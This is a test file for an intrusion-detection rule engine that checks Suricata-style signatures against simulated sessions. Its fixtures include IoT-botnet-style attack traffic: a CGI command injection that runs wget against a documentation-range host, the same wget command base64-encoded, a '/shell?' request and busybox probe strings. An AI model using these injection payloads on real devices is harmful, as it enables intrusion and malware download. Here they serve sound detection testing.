import { describe, expect, it } from "vitest";
import { RuleEngine } from "./engine.js";
import { parseRules } from "./parse.js";
import { makeProbe, makeSession, type SessionSpec } from "./test-session.js";

/** Sids alerting on one session for the given rules text. */
function sids(rules: string, spec: SessionSpec): number[] {
  const set = parseRules(rules, "t.rules");
  expect(set.problems).toEqual([]);
  return new RuleEngine(set).session(makeSession(spec)).map((a) => a.rule.sid);
}

const rule = (opts: string, sid = 1, head = "tcp any any -> any any") =>
  `alert ${head} (${opts} sid:${sid};)`;

describe("content matching", () => {
  const payload = { client: "xxHELLO world, this is a test", dport: 9000 };

  it.each([
    ['content:"HELLO";', true],
    ['content:"hello";', false],
    ['content:"hello"; nocase;', true],
    ['content:"HELLO"; depth:6;', false],
    ['content:"HELLO"; depth:7;', true],
    ['content:"HELLO"; offset:3;', false],
    ['content:"HELLO"; offset:2; depth:5;', true],
    ['content:"xx"; startswith;', true],
    ['content:"HELLO"; startswith;', false],
    ['content:"test"; endswith;', true],
    ['content:"is a"; endswith;', false],
    ['content:!"nothere";', true],
    ['content:!"HELLO";', false],
    ['content:"HELLO"; content:"world"; distance:1; within:5;', true],
    ['content:"HELLO"; content:"world"; distance:2;', false],
    ['content:"HELLO"; content:"this"; within:5;', false],
    ['content:"|48 45|LLO";', true],
    ['content:"is"; content:"a test"; distance:1; within:6;', true],
    ['content:"HELLO"; content:!"world"; distance:0; within:6;', false],
    ['content:"HELLO"; isdataat:5,relative;', true],
    ['content:"test"; isdataat:!1,relative;', true],
    ['content:"this"; isdataat:!1,relative;', false],
    ["dsize:>20;", true],
    ['pcre:"/hel+o\\s+w/i";', true],
    ['pcre:"/^xx/";', true],
    ['content:"HELLO"; pcre:"/^ world/R";', true],
    ['content:"HELLO"; pcre:"/^world/R";', false],
    ['pcre:!"/zzz/";', true],
  ])("%s -> %s", (opts, hit) => {
    expect(sids(rule(opts), payload)).toEqual(hit ? [1] : []);
  });

  it("retries an earlier content at its next occurrence", () => {
    const s = { client: "a=1;b=2;a=3;c=4", dport: 9000 };
    expect(sids(rule('content:"a="; content:"c="; distance:2; within:2;'), s)).toEqual([1]);
  });

  it("reads bytes: byte_test, byte_jump, byte_extract", () => {
    const s = { client: "\x00\x05abcdeXY\x00\x02HI", dport: 9000 };
    expect(sids(rule("byte_test:2,=,5,0;"), s)).toEqual([1]);
    expect(sids(rule("byte_test:2,>,5,0;"), s)).toEqual([]);
    expect(sids(rule('byte_jump:2,0; content:"XY"; within:2;'), s)).toEqual([1]);
    expect(sids(rule('byte_extract:2,0,len; content:"XY"; distance:len; within:2;'), s)).toEqual([
      1,
    ]);
    expect(sids(rule("byte_test:1,&,4,1;"), s)).toEqual([1]);
    expect(sids(rule('content:"HI"; byte_test:2,=,2,-4,relative;'), s)).toEqual([1]);
    expect(sids(rule("byte_test:1,=,5,1,string,dec;"), { client: "x5", dport: 1 })).toEqual([1]);
  });

  it("decodes base64", () => {
    const s = { client: "cmd=d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2E=", dport: 9000 };
    expect(
      sids(rule('content:"cmd="; base64_decode:relative; base64_data; content:"wget http";'), s),
    ).toEqual([1]);
  });
});

describe("direction and flow", () => {
  const s = { client: "USER root\r\n", server: "uid=0(root) gid=0", dport: 2323 };

  it("chooses the stream by flow direction and header ports", () => {
    expect(sids(rule('flow:to_server; content:"USER";'), s)).toEqual([1]);
    expect(sids(rule('flow:to_client; content:"USER";'), s)).toEqual([]);
    expect(sids(rule('flow:to_client; content:"uid=0|28|root|29|";'), s)).toEqual([1]);
    expect(sids(rule('content:"uid=0";', 1, "tcp any 2323 -> any any"), s)).toEqual([1]);
    expect(sids(rule('content:"uid=0";', 1, "tcp any any -> any 2323"), s)).toEqual([]);
    expect(sids(rule('content:"uid=0";', 1, "tcp any any <> any 2323"), s)).toEqual([1]);
    expect(sids(rule('content:"USER";', 1, "udp any any -> any any"), s)).toEqual([]);
  });

  it("knows established sessions", () => {
    const est = rule('flow:established,to_server; content:"USER";');
    expect(sids(est, s)).toEqual([1]);
    expect(sids(est, { ...s, server: "", handshake: false, serverPackets: 0 })).toEqual([]);
    expect(sids(rule('flow:not_established; content:"USER";'), s)).toEqual([]);
  });

  it("matches addresses with variables", () => {
    const set = parseRules(
      rule('content:"USER";', 1, "tcp $EXTERNAL_NET any -> $HOME_NET any"),
      "t",
      {
        vars: { HOME_NET: "[203.0.113.0/24]", EXTERNAL_NET: "!$HOME_NET" },
      },
    );
    const e = new RuleEngine(set);
    expect(e.session(makeSession(s)).length).toBe(1);
    expect(e.session(makeSession({ ...s, dst: "198.51.100.1" })).length).toBe(0);
  });
});

describe("HTTP buffers", () => {
  const req =
    "POST /cgi-bin/../login.cgi?cli=aa%20aa'$(wget%20http://198.51.100.7/x) HTTP/1.1\r\n" +
    "Host: 203.0.113.5:8080\r\nUser-Agent: Hello, world\r\nCookie: sess=1\r\nContent-Length: 9\r\n\r\n" +
    "user=root" +
    "GET /shell?cd+/tmp HTTP/1.1\r\nHost: x\r\n\r\n";
  const res =
    "HTTP/1.1 200 OK\r\nServer: uc-httpd 1.0.0\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
  const s = { client: req, server: res, dport: 8080 };
  const h = "http any any -> any any";

  it.each([
    ['http.method; content:"POST";', [1]],
    ['content:"POST"; http_method;', [1]],
    ['http.uri; content:"/login.cgi?cli="; startswith;', [1]],
    ['http.uri; content:"%20";', [1]],
    ['http.uri.raw; content:"/cgi-bin/../";', [1]],
    ['uricontent:"/shell?";', [1]],
    ['http.host; content:"203.0.113.5"; endswith;', [1]],
    ['http.host.raw; content:"203.0.113.5:8080";', [1]],
    ['http.user_agent; content:"Hello, world"; bsize:12;', [1]],
    ['http.header; content:"User-Agent|3a 20|Hello";', [1]],
    ['http.header; content:"Cookie";', []],
    ['http.cookie; content:"sess=1";', [1]],
    ['http.request_body; content:"user=root";', [1]],
    ['content:"root"; http_client_body;', [1]],
    ['http.header_names; content:"|0d 0a|Host|0d 0a|User-Agent|0d 0a|";', [1]],
    ['http.request_line; content:"POST /cgi-bin"; startswith; content:"HTTP/1.1"; endswith;', [1]],
    ['http.protocol; content:"HTTP/1.1";', [1, 1]],
    ['http.stat_code; content:"404";', [1]],
    ['http.stat_msg; content:"Not Found";', [1]],
    ['http.server; content:"uc-httpd";', [1]],
    ['file_data; content:"hello";', [1]],
    ['http.header.raw; content:"Host: 203.0.113.5:8080|0d 0a|";', [1]],
    ["urilen:<20;", [1]],
    ['pcre:"/^\\/shell\\?/U";', [1]],
    ['pcre:"/Hello, w/V";', [1]],
    ['http.method; content:"GET"; http.uri; content:"login";', []],
  ])("%s", (opts, want) => {
    expect(sids(rule(opts, 1, h), s)).toEqual(want);
  });

  it("alerts once per matching transaction and names it", () => {
    const set = parseRules(rule('http.uri; content:"/";', 1, h), "t");
    const alerts = new RuleEngine(set).session(makeSession(s));
    expect(alerts.map((a) => a.httpIndex)).toEqual([0, 1]);
  });

  it("does not run http rules on non-HTTP sessions", () => {
    expect(sids(rule('content:"USER";', 1, h), { client: "USER x\r\n" })).toEqual([]);
  });
});

describe("state", () => {
  it("carries flowbits across transactions of one session only", () => {
    const rules = [
      'alert http any any -> any any (http.uri; content:"/step1"; flowbits:set,stage; flowbits:noalert; sid:1;)',
      'alert http any any -> any any (http.uri; content:"/step2"; flowbits:isset,stage; sid:2;)',
    ].join("\n");
    const both = "GET /step1 HTTP/1.1\r\nHost: a\r\n\r\nGET /step2 HTTP/1.1\r\nHost: a\r\n\r\n";
    expect(sids(rules, { client: both })).toEqual([2]);
    expect(sids(rules, { client: "GET /step2 HTTP/1.1\r\nHost: a\r\n\r\n" })).toEqual([]);
  });

  it("applies threshold limits per engine run", () => {
    const set = parseRules(
      rule('content:"x"; threshold:type limit, track by_src, count 2, seconds 60;'),
      "t",
    );
    const e = new RuleEngine(set);
    const n = [0, 1, 2, 3].map(
      (i) => e.session(makeSession({ client: "x", start: 1e15 + i * 1e6 })).length,
    );
    expect(n).toEqual([1, 1, 0, 0]);
    expect(e.session(makeSession({ client: "x", start: 1e15 + 120e6 })).length).toBe(1);
  });

  it("applies detection_filter and xbits", () => {
    const df = parseRules(
      rule('content:"x"; detection_filter:track by_src, count 2, seconds 60;'),
      "t",
    );
    const e = new RuleEngine(df);
    expect(
      [0, 1, 2].map((i) => e.session(makeSession({ client: "x", start: 1e15 + i })).length),
    ).toEqual([0, 0, 1]);
    const xb = parseRules(
      [
        rule('content:"a"; xbits:set,seen,track ip_src,expire 60; noalert;', 1),
        rule('content:"b"; xbits:isset,seen,track ip_src;', 2),
      ].join("\n"),
      "t",
    );
    const e2 = new RuleEngine(xb);
    expect(e2.session(makeSession({ client: "b", start: 1e15 })).length).toBe(0);
    expect(e2.session(makeSession({ client: "a", start: 1e15 + 1 })).length).toBe(0);
    expect(
      e2.session(makeSession({ client: "b", start: 1e15 + 2 })).map((a) => a.rule.sid),
    ).toEqual([2]);
  });
});

describe("probes", () => {
  it("matches header keywords on probes", () => {
    const set = parseRules(
      [
        rule("flags:S,12; dsize:0;", 1, "tcp any any -> any 23"),
        rule("flags:SA;", 2, "tcp any any -> any 23"),
        rule("flow:established; flags:S;", 3, "tcp any any -> any 23"),
        rule("ttl:<100; window:14600;", 4, "tcp any any -> any any"),
      ].join("\n"),
      "t",
    );
    const engine = new RuleEngine(set);
    expect(engine.wantsProbe("tcp", 23)).toBe(true);
    expect(engine.wantsProbe("udp", 23)).toBe(false);
    const alerts = engine.probe(makeProbe());
    expect(alerts.map((a) => [a.rule.sid, a.sessionId, a.httpIndex])).toEqual([
      [1, "", -1],
      [4, "", -1],
    ]);
  });
});

describe("memo of identical payloads", () => {
  it("reuses match outcomes but still checks headers, flowbits and thresholds per session", () => {
    const set = parseRules(
      [
        'alert tcp 192.0.2.0/24 any -> any any (content:"busybox"; nocase; pcre:"/busybox\\s+[A-Z]{4,}/"; sid:1;)',
        'alert tcp any any -> any any (content:"busybox"; threshold:type limit, track by_rule, count 2, seconds 60; sid:2;)',
      ].join("\n"),
      "t",
    );
    const client = "enable\r\n/bin/busybox ECCHI\r\n";
    const a = new RuleEngine(set);
    const b = new RuleEngine(set, { memo: false });
    const specs = [
      { client, src: "192.0.2.10", start: 1e15 },
      { client, src: "198.51.100.20", start: 1e15 + 1 },
      { client, src: "192.0.2.11", start: 1e15 + 2 },
      { client: `${client} `, src: "192.0.2.12", start: 1e15 + 3 },
    ];
    const run = (e: RuleEngine) =>
      specs.map((sp) => e.session(makeSession(sp)).map((x) => x.rule.sid));
    const want = [[1, 2], [2], [1], [1]];
    expect(run(a)).toEqual(want);
    expect(run(b)).toEqual(want);
  });
});
